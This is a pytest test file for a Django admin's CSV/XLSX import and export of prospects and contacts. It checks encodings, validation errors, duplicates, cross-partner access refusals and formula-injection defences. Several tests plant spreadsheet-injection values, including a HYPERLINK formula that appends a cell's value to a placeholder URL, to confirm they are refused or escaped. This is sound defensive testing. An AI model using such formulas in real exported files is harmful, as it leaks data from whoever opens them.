"""Import and export of prospects and contacts through the admin (django-import-export)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from promotion.admin.crm_resources import neutralise_formula
from promotion.models import Contact, Prospect, StageChange
from tests import factories

CSV_FORMAT, XLSX_FORMAT = "0", "1"
HEADER = "partner,company_name,country,naics_code,stage,lost_reason,language,estimated_jobs\r\n"


@pytest.fixture
def tj(client, world):
    client.force_login(world.tj_manager)
    return client


def upload(client, model, content, *, name="prospects.csv", fmt=CSV_FORMAT):
    return client.post(
        reverse(f"admin:promotion_{model}_import"),
        {
            "resource": "0",
            "format": fmt,
            "import_file": SimpleUploadedFile(name, content),
        },
    )


def confirm(client, model, preview):
    form = preview.context.get("confirm_form")
    assert form is not None, preview.content.decode()[-4000:]
    return client.post(reverse(f"admin:promotion_{model}_process_import"), form.initial)


def import_file(client, model, content, **kwargs):
    preview = upload(client, model, content, **kwargs)
    assert preview.status_code == 200
    assert preview.context.get("confirm_form") is not None, preview.content.decode()[-3000:]
    return confirm(client, model, preview)


def test_good_csv_with_bom_is_previewed_then_imported(tj, world):
    content = (
        HEADER + "tj-edc,Compañía Ñandú,MX,3364,lead,,es,40\r\n"
        "tj-edc,Seoul Optics,KR,3344,qualified,,en,\r\n"
    ).encode("utf-8-sig")
    before = Prospect.objects.count()
    preview = upload(tj, "prospect", content)
    html = preview.content.decode()
    assert "Compañía Ñandú" in html and "Seoul Optics" in html
    assert Prospect.objects.count() == before  # a preview writes nothing
    response = confirm(tj, "prospect", preview)
    assert response.status_code == 302
    created = Prospect.objects.get(company_name="Compañía Ñandú")
    assert created.partner == world.tj and created.codename.startswith("Project ")
    assert StageChange.objects.filter(prospect=created).exists()
    history = created.history.get()  # who created it, shown on its history page
    assert (history.history_type, history.history_user) == ("+", world.tj_manager)
    assert Prospect.objects.filter(company_name="Seoul Optics", stage="qualified").exists()


def test_utf8_without_bom_and_excel_cp1252_are_read_correctly(tj, world):
    import_file(
        tj, "prospect", (HEADER + "tj-edc,Señal Sin Bom,MX,3364,lead,,es,\r\n").encode("utf-8")
    )
    import_file(
        tj,
        "prospect",
        (HEADER + "tj-edc,Peñasco Électrique,FR,3359,lead,,en,\r\n").encode("cp1252"),
    )
    assert Prospect.objects.filter(company_name="Señal Sin Bom").exists()
    assert Prospect.objects.filter(company_name="Peñasco Électrique").exists()


def test_utf16_is_refused_with_a_clear_message(tj, world):
    response = upload(tj, "prospect", (HEADER + "tj-edc,X,MX,3364,lead,,es,\r\n").encode("utf-16"))
    html = response.content.decode()
    assert "UTF-16" in html and "CSV UTF-8" in html
    assert response.context.get("confirm_form") is None


def test_bad_rows_are_reported_with_row_numbers_and_nothing_is_written(tj, world):
    content = (
        HEADER + "tj-edc,Good One,MX,3364,lead,,es,\r\n"
        "tj-edc,Bad Country,XX,3364,lead,,es,\r\n"
        "tj-edc,Lost Without Reason,MX,3364,lost,,es,\r\n"
    ).encode()
    before = Prospect.objects.count()
    response = upload(tj, "prospect", content)
    html = response.content.decode()
    assert response.context.get("confirm_form") is None
    assert "XX is not an ISO 3166 alpha-2 country code" in html
    assert "Say why the prospect was lost." in html
    result = response.context["result"]
    assert [row.number for row in result.invalid_rows] == [2, 3]
    assert "<td>2 </td>" in html and "<td>3 </td>" in html  # the "Row" column
    assert Prospect.objects.count() == before


def test_duplicates_in_the_file_and_in_the_database_are_refused(tj, world):
    content = (
        HEADER + "tj-edc,Twin Co,MX,3364,lead,,es,\r\n"
        "tj-edc,twin co,MX,3364,lead,,es,\r\n"
        "tj-edc,Tijuana Secret Motors,JP,3364,lead,,es,\r\n"
    ).encode()
    response = upload(tj, "prospect", content)
    html = response.content.decode()
    assert "The same company and country appear twice in this file." in html
    assert "already has a prospect with this company and country" in html
    assert not Prospect.objects.filter(company_name__iexact="twin co").exists()


def test_an_id_of_another_partners_prospect_is_refused(tj, world):
    for pk in (world.sd_prospect.pk, world.shared.pk, 999999):
        content = (
            f"id,company_name,country,naics_code,stage,lost_reason,language\r\n"
            f"{pk},Hijacked,MX,3364,lead,,en\r\n"
        ).encode()
        response = upload(tj, "prospect", content)
        html = response.content.decode()
        assert response.context.get("confirm_form") is None
        assert f"No record with id {pk} among yours." in html
        assert "Falconworks" not in html and "Binational" not in html
    world.sd_prospect.refresh_from_db()
    world.shared.refresh_from_db()
    assert world.sd_prospect.company_name == "Falconworks Biotech"
    assert world.shared.company_name == "Binational Cables"


def test_another_partner_in_the_partner_column_is_refused(tj, world):
    response = upload(tj, "prospect", (HEADER + "sd-edc,Planted Co,MX,3364,lead,,es,\r\n").encode())
    assert "sd-edc is not one of yours." in response.content.decode()
    assert not Prospect.objects.filter(company_name="Planted Co").exists()


def test_an_own_id_updates_the_row(tj, world):
    content = (
        f"id,company_name,country,naics_code,stage,lost_reason,language\r\n"
        f"{world.tj_prospect.pk},Tijuana Secret Motors,JP,3364,qualified,,en\r\n"
    )
    import_file(tj, "prospect", content.encode())
    world.tj_prospect.refresh_from_db()
    assert world.tj_prospect.stage == "qualified"
    assert world.tj_prospect.stage_changes.filter(to_stage="qualified").exists()
    latest = world.tj_prospect.history.first()
    assert (latest.history_type, latest.stage, latest.history_user) == (
        "~",
        "qualified",
        world.tj_manager,
    )


def test_formula_cells_are_refused_on_import(tj, world):
    response = upload(
        tj,
        "prospect",
        (HEADER + 'tj-edc,"=HYPERLINK(""http://x"")",MX,3364,lead,,es,\r\n').encode(),
    )
    assert "looks like a spreadsheet formula" in response.content.decode()


def test_xlsx_import(tj, world):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(
        ["partner", "company_name", "country", "naics_code", "stage", "language", "estimated_jobs"]
    )
    sheet.append(["tj-edc", "Hangul 한국 Co", "KR", "3344", "lead", "en", 25])
    buffer = io.BytesIO()
    book.save(buffer)
    import_file(tj, "prospect", buffer.getvalue(), name="p.xlsx", fmt=XLSX_FORMAT)
    assert Prospect.objects.get(company_name="Hangul 한국 Co").estimated_jobs == 25


def test_contacts_import_refuses_duplicate_emails_and_others_prospects(tj, world):
    header = "prospect,name,email,language\r\n"
    content = (
        header + f"{world.tj_prospect.pk},Ana Example,ana@example.com,es\r\n"
        f"{world.tj_prospect.pk},Ana Again,ANA@example.com,es\r\n"
        f"{world.sd_prospect.pk},Planted,planted@example.com,en\r\n"
    ).encode()
    response = upload(tj, "contact", content, name="contacts.csv")
    html = response.content.decode()
    assert "The same e-mail appears twice in this file." in html
    assert f"{world.sd_prospect.pk} is not one of yours." in html
    assert not Contact.objects.filter(email__iexact="ana@example.com").exists()
    import_file(
        tj,
        "contact",
        (header + f"{world.tj_prospect.pk},Ana Example,ana@example.com,es\r\n").encode(),
        name="contacts.csv",
    )
    assert world.tj_prospect.contacts.filter(email="ana@example.com").exists()


def test_a_contact_email_already_on_file_is_refused_whatever_its_case(tj, world):
    """Among the contacts the importer sees only: the same address on another partner's
    contact is not theirs to know about, and the row goes in."""
    factories.ContactFactory(prospect=world.tj_prospect, email="Luis.Mora@Example.com")
    factories.ContactFactory(prospect=world.sd_prospect, email="shared@example.com")
    header = "prospect,name,email,language\r\n"
    response = upload(
        tj,
        "contact",
        (header + f"{world.tj_prospect.pk},Luis Mora,luis.mora@example.COM,es\r\n").encode(),
        name="contacts.csv",
    )
    assert "A contact with this e-mail already exists." in response.content.decode()
    assert response.context.get("confirm_form") is None
    import_file(
        tj,
        "contact",
        (header + f"{world.tj_prospect.pk},Shared Address,SHARED@example.com,en\r\n").encode(),
        name="contacts.csv",
    )
    assert world.tj_prospect.contacts.filter(email="SHARED@example.com").exists()


def export(client, model, fmt):
    page = client.get(reverse(f"admin:promotion_{model}_export"))
    form = page.context["form"]
    data = {"format": fmt, "resource": "0"}
    for name, field in form.fields.items():
        if name not in data and field.initial is not None and name != "export_items":
            data[name] = "on" if field.initial is True else field.initial
    response = client.post(reverse(f"admin:promotion_{model}_export"), data)
    assert response.status_code == 200, response.content[:2000]
    return response


def test_csv_export_neutralises_formulas_keeps_numbers_and_scope(tj, world):
    factories.ProspectFactory(
        partner=world.tj,
        company_name='=HYPERLINK("http://x/?"&A1)',
        codename="@SUM(1)",
        industry="-cmd",
        notes="\tTabbed",
        site_needs="+1-2",
        country="MX",
        capital_investment=Decimal("-5"),
        estimated_jobs=7,
    )
    response = export(tj, "prospect", "0")
    text = response.content.decode("utf-8-sig")
    rows = {row["codename"]: row for row in csv.DictReader(io.StringIO(text))}
    assert set(rows) == {"Project Osprey", "Project Tern", "'@SUM(1)"}
    row = rows["'@SUM(1)"]
    assert row["company_name"] == '\'=HYPERLINK("http://x/?"&A1)'
    assert row["industry"] == "'-cmd"
    assert row["notes"] == "'\tTabbed"
    assert row["site_needs"] == "'+1-2"
    assert row["capital_investment"].lstrip("'") == row["capital_investment"]
    assert Decimal(row["capital_investment"]) == Decimal("-5")


def test_export_hides_the_company_where_the_share_does(tj, world):
    share = world.shared.shares.get()
    share.reveal_identity = False
    share.save()
    text = export(tj, "prospect", "0").content.decode("utf-8-sig")
    assert "Project Tern" in text and "Binational" not in text
    assert "Falcon" not in text


def test_xlsx_export_keeps_numbers_as_numbers(tj, world):
    factories.ProspectFactory(
        partner=world.tj,
        industry="=1+1",
        country="MX",
        capital_investment=Decimal("-5"),
        estimated_jobs=9,
    )
    response = export(tj, "prospect", "1")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    rows = [
        dict(zip(header, [c.value for c in row], strict=True)) for row in sheet.iter_rows(min_row=2)
    ]
    row = next(r for r in rows if r["estimated_jobs"] == 9)
    assert row["industry"] == "'=1+1"
    assert isinstance(row["capital_investment"], int | float | Decimal)
    assert row["capital_investment"] == -5


def test_neutralise_formula():
    for value in ("=1", "+1", "-1", "@x", "\tx", "\rx", "\0x"):
        assert neutralise_formula(value) == "'" + value
    assert neutralise_formula("plain") == "plain"
    assert neutralise_formula(-5) == -5


def test_the_same_id_twice_is_refused(tj, world):
    pk = world.tj_prospect.pk
    content = (
        f"id,company_name,country,naics_code,stage,lost_reason,language\r\n"
        f"{pk},Tijuana Secret Motors,JP,3364,qualified,,en\r\n"
        f"{pk},Tijuana Secret Motors,JP,3364,won,,en\r\n"
    ).encode()
    response = upload(tj, "prospect", content)
    assert f"The id {pk} appears twice in this file." in response.content.decode()
    world.tj_prospect.refresh_from_db()
    assert world.tj_prospect.stage == "lead"


def test_a_file_that_fails_at_confirmation_writes_nothing(tj, world):
    content = (
        HEADER + "tj-edc,First Fine,MX,3364,lead,,es,\r\ntj-edc,Late Clash,MX,3364,lead,,es,\r\n"
    ).encode()
    preview = upload(tj, "prospect", content)
    factories.ProspectFactory(partner=world.tj, company_name="Late Clash", country="MX")
    response = confirm(tj, "prospect", preview)
    assert response.status_code == 302
    assert not Prospect.objects.filter(company_name="First Fine").exists()
    page = tj.get(response.url)
    assert "Nothing was imported: rows 2 no longer pass the checks" in page.content.decode()


def test_the_company_already_on_file_is_found_whatever_its_case(tj, world):
    content = (HEADER + "tj-edc,TIJUANA SECRET MOTORS,JP,3364,lead,,es,\r\n").encode()
    response = upload(tj, "prospect", content)
    html = response.content.decode()
    assert response.context.get("confirm_form") is None
    assert "already has a prospect with this company and country (Project Osprey)" in html
    assert Prospect.objects.filter(company_name__iexact="Tijuana Secret Motors").count() == 1


def test_a_codename_the_partner_already_uses_is_refused(tj, world):
    other = factories.ProspectFactory(partner=world.tj, codename="Project Kestrel", country="MX")
    content = (
        "id,company_name,codename,country,naics_code,stage,lost_reason,language\r\n"
        f"{world.tj_prospect.pk},Tijuana Secret Motors,Project Kestrel,JP,3364,lead,,en\r\n"
        ",Fresh Co,Project Kestrel,MX,3364,lead,,en\r\n"
    ).encode()
    response = upload(tj, "prospect", content)
    assert response.context.get("confirm_form") is None
    result = response.context["result"]
    assert [row.number for row in result.invalid_rows] == [1, 2]
    message = "Prospect with this Owner partner and Codename already exists."
    assert [row.error_dict for row in result.invalid_rows] == [{"__all__": [message]}] * 2
    assert message in response.content.decode()
    world.tj_prospect.refresh_from_db()
    assert world.tj_prospect.codename == "Project Osprey"
    assert not Prospect.objects.filter(company_name="Fresh Co").exists()
    assert Prospect.objects.get(pk=other.pk).codename == "Project Kestrel"


def _queries_per_row(client, content_for, sizes=(10, 40), model="prospect"):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    counts = []
    for size in sizes:
        with CaptureQueriesContext(connection) as preview_queries:
            preview = upload(client, model, content_for(size), name=f"{model}s.csv")
        with CaptureQueriesContext(connection) as confirm_queries:
            assert confirm(client, model, preview).status_code == 302
        counts.append((len(preview_queries), len(confirm_queries)))
    (small_preview, small_confirm), (large_preview, large_confirm) = counts
    rows = sizes[1] - sizes[0]
    return (large_preview - small_preview) / rows, (large_confirm - small_confirm) / rows


def test_an_import_reads_what_every_row_needs_once(tj, world):
    """A row costs its own write and savepoint, not a query per check: the owner's
    staff, the partner, the stored rows and the constraints are read once per file,
    and the rows' history and stage changes are written together."""

    def new_rows(size):
        rows = "".join(f"tj-edc,Company {size} {n},MX,3364,lead,,es,{n}\r\n" for n in range(size))
        return (HEADER + rows).encode()

    preview, done = _queries_per_row(tj, new_rows)
    assert preview <= 4 and done <= 4, (preview, done)

    own = {
        size: factories.ProspectFactory.create_batch(size, partner=world.tj) for size in (10, 40)
    }

    def updates(size):
        return (
            "id,company_name,country,naics_code,stage,lost_reason,language\r\n"
            + "".join(f"{p.pk},{p.company_name},{p.country},3364,won,,en\r\n" for p in own[size])
        ).encode()

    preview, done = _queries_per_row(tj, updates)
    assert preview <= 4 and done <= 4, (preview, done)
    assert Prospect.objects.filter(partner=world.tj, stage="won").count() == 50


def test_a_contact_import_reads_the_emails_and_prospects_once(tj, world):
    """A contact row costs its savepoint, its write and its history: the stored e-mails
    it could repeat, its prospect and the right to write for it are read once a file."""
    other = factories.ProspectFactory(partner=world.tj)

    def rows(size):
        return (
            "prospect,name,email,language\r\n"
            + "".join(
                f"{(world.tj_prospect, other)[n % 2].pk},Person {n},p{size}.{n}@example.com,es\r\n"
                for n in range(size)
            )
        ).encode()

    preview, done = _queries_per_row(tj, rows, model="contact")
    assert preview <= 4 and done <= 4, (preview, done)
    assert Contact.objects.filter(email__startswith="p40.").count() == 40
